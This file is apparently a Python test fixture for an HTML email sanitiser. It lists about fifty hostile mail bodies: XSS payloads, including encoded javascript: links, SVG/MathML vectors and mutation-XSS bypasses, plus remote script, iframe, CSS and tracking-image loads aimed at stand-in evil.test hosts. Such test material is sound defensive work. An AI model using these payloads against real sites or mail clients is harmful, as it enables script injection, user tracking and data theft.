# ruff: noqa: E501 - each payload stays on one line, as the attack it spells.
"""Hostile HTML mail bodies: each tries to run a script or load from a remote host.

Every payload that could run calls alert() or fetches from a *.evil.test host, so
a browser test sees a dialog or a recorded remote request if anything gets through.
Several are the mutation-XSS shapes that sanitisers have mis-parsed in the past.
"""

HOSTILE_BODIES = {
    "script tag": "<p>a</p><script>alert('script')</script>",
    "remote script": '<script src="https://js.evil.test/x.js"></script>',
    "img onerror": '<img src="x" onerror="alert(\'onerror\')">',
    "body onload": "<body onload=\"alert('onload')\"><p>hi</p></body>",
    "event on any tag": '<div onmouseover="alert(1)" onfocus="alert(2)" tabindex=0 '
    "autofocus>hover</div>",
    "javascript link": "<a href=\"javascript:alert('js link')\">click</a>",
    "javascript link with tab": '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "entity javascript": '<a href="&#106;avascript:alert(1)">entity</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">vb</a>',
    "data html link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
    "data</a>",
    "data svg image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "svg onload": '<svg onload="alert(\'svg\')"><circle r="5"/></svg>',
    "svg script": '<svg><script>alert("svg script")</script></svg>',
    "svg xlink": '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "svg animate": '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    "svg remote image": '<svg><image href="https://img.evil.test/svg.png"/></svg>',
    "mathml href": '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
    "mathml maction": '<math><maction actiontype="statusline#https://evil.test">'
    "<mtext>x</mtext></maction></math>",
    "iframe remote": '<iframe src="https://frame.evil.test/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object and embed": '<object data="https://obj.evil.test/x.swf"></object>'
    '<embed src="https://embed.evil.test/x">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://meta.evil.test/">',
    "base href": '<base href="https://base.evil.test/"><img src="relative.png">',
    "stylesheet link": '<link rel="stylesheet" href="https://css.evil.test/x.css">',
    "prefetch link": '<link rel="prefetch" href="https://prefetch.evil.test/">',
    "style import": '<style>@import url("https://import.evil.test/x.css");</style>',
    "style font face": "<style>@font-face{font-family:x;src:url(https://font.evil.test/f)}"
    "p{font-family:x}</style><p>font</p>",
    "inline style url": '<div style="background-image:url(https://bg.evil.test/b.png)">'
    "bg</div>",
    "inline style escaped url": '<div style="background:u\\72l(https://esc.evil.test/b)">'
    "esc</div>",
    "css expression": '<div style="width:expression(alert(1))">ie</div>',
    "remote image": '<img src="https://img.evil.test/track.gif">',
    "protocol relative image": '<img src="//rel.evil.test/track.gif">',
    "srcset": '<img src="cid:none" srcset="https://srcset.evil.test/1.png 1x">',
    "picture source": '<picture><source srcset="https://pic.evil.test/p.png">'
    '<img src="x"></picture>',
    "video poster": '<video poster="https://poster.evil.test/p.png" '
    'src="https://video.evil.test/v.mp4" autoplay></video>',
    "audio": '<audio src="https://audio.evil.test/a.mp3" autoplay></audio>',
    "table background": '<table background="https://tbl.evil.test/t.png"><tr><td>t</td>'
    "</tr></table>",
    "body background": '<body background="https://body.evil.test/b.png">b</body>',
    "input image": '<input type="image" src="https://input.evil.test/i.png">',
    "form": '<form action="https://form.evil.test/"><input name="p" value="x">'
    "<button autofocus>send</button></form>",
    "ping": '<a href="https://ok.example.test/" ping="https://ping.evil.test/">ping</a>',
    "noscript mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "svg style mxss": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mglyph mxss": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
    '&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    "form math mxss": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "template": "<template><script>alert(1)</script></template>"
    '<div><template shadowrootmode="open"><img src=x onerror=alert(1)>'
    "</template></div>",
    "comment trick": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "unclosed attribute": '<img src="x" alt="a onerror=alert(1) b=">',
    "xml namespace": '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)'
    "</x:script></html>",
}
